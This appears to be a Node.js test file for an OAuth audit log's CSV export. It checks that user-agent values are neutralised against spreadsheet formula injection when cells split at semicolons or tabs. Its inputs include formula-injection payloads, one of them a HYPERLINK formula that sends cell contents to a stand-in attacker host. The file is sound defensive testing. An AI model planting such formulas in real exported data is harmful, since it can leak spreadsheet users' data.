// Formulas in the audit log as a file, for tables that begin a cell at other marks than a comma.
import assert from "node:assert/strict";
import { test } from "node:test";
import { lineOf } from "../src/issuer/audit/csv.js";

/** Returns a line of an event with this user agent. @param {string} userAgent */
const line = (userAgent) =>
  lineOf(
    /** @type {any} */ ({
      ...{ id: "1", time: 0, kind: "oauth.token_request_failed", applicationId: "shop", secretId: null, actor: null },
      ...{ outcome: "invalid_client", reason: "unknown", ip: "192.0.2.1", userAgent, count: 1, lastTime: 0 },
    }),
  );

for (const agent of [
  "x;=1+1",
  'x;=HYPERLINK("https://evil.example?"&A1;"x");y',
  "x;@SUM(A1)",
  "x\t+1",
  ";-1",
  "x;＝1",
]) {
  test(`no cell is a formula where a table splits at semicolons and tabs: ${JSON.stringify(agent)}`, () => {
    for (const cell of line(agent).split(/[;\t]/)) assert.doesNotMatch(cell, /^"?[=+\-@＝＋－＠]/u);
  });
}

test("a usual user agent stays as it is", () => {
  const agent = "Mozilla/5.0 (X11; Linux x86_64; +https://bot.example)";
  assert.ok(line(agent).includes(`,${agent},`));
});
